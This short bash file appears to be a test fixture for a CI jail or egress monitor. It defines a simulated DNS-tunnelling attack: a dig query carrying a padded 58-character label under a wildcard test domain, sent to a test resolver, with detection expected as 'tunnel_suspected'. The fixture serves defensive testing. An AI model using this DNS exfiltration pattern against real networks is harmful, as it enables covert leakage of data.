# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A random 58-character label under a wildcard' origin='RESEARCH §6, cijail'
sink=s reason=tunnel_suspected forms='output forward run'
extra=(short.test$'\n    dns: { budget: { label_bytes: 40 } }')
attack() { client dig +tries=1 +timeout=10 @198.18.2.53 "$(printf '%-58s' "$1" | tr ' ' q).wild.test"; }
